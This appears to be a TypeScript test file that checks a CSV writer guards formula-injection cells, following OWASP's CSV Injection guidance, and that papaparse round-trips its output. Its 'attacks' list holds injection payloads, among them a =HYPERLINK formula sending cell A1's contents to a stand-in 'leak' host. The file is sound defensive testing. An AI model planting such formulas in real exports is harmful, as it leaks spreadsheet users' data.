import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { guardCell, unguardCell, writeCsv } from '../../shared-schemas/csv-text.ts'

/**
 * OWASP, “CSV Injection”: cells that begin with one of these may be run by a spreadsheet. The page lists =, +, -, @,
 * tab (0x09), carriage return (0x0D) and line feed (0x0A), and the wide forms of the first four.
 */
const running = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']

/** Attacks of the kind that the OWASP page and the spreadsheets' own manuals describe. */
const attacks = [
  '=1+1',
  '=HYPERLINK("https://example.invalid?leak="&A1,"Error")',
  '@SUM(1+1)',
  '+1+cmd',
  '-2+3+cmd',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  "'=1+1",
  '＝1+1',
  '-',
  '=',
]

describe('text cannot run as a formula', () => {
  test.each(attacks)('%j', attack => {
    const guarded = guardCell(attack)
    expect(guarded.startsWith("'")).toBe(true)
    expect(unguardCell(guarded)).toBe(attack)
  })

  test('whatever follows the sign', () => {
    fc.assert(
      fc.property(fc.constantFrom(...running), fc.string(), (sign, rest) => {
        const text = `${sign}${rest}`
        const isFigure = /^[+-]?\d+([.,]\d+)*([eE][+-]?\d+)?$/.test(text)
        expect(guardCell(text)).toBe(isFigure ? text : `'${text}`)
      }),
    )
  })
})

test.each(['5', '-5', '+5', '12.50', '-12,50', '1.234,50', '1E5', '-1e-5', '00480121'])(
  'a figure stays a figure: %s',
  figure =>
    expect(writeCsv([[figure, 'a']])).toMatch(new RegExp(`^"?${figure.replace('+', '\\+')}"?,a\r\n$`)),
)

const text = fc.oneof(
  fc.string(),
  fc.string({
    unit: fc.constantFrom('=', "'", '"', ',', ';', '\t', '\n', '\r', ' ', '-', '+', '@', 'a', '1', '|', 'µ'),
  }),
)
const table = fc
  .integer({ min: 1, max: 5 })
  .chain(width =>
    fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }),
  )

test('papaparse reads back every cell that was written, with any separator', () => {
  fc.assert(
    fc.property(table, fc.constantFrom(',', ';', '\t', '|'), (rows, separator) => {
      const written = writeCsv(rows, { separator })
      const { data, errors } = Papa.parse<string[]>(written, { delimiter: separator, newline: '\r\n' })
      expect(errors).toEqual([])
      expect(data.pop()).toEqual([''])
      expect(data.map(cells => cells.map(unguardCell))).toEqual(rows)
    }),
    { numRuns: 500 },
  )
})
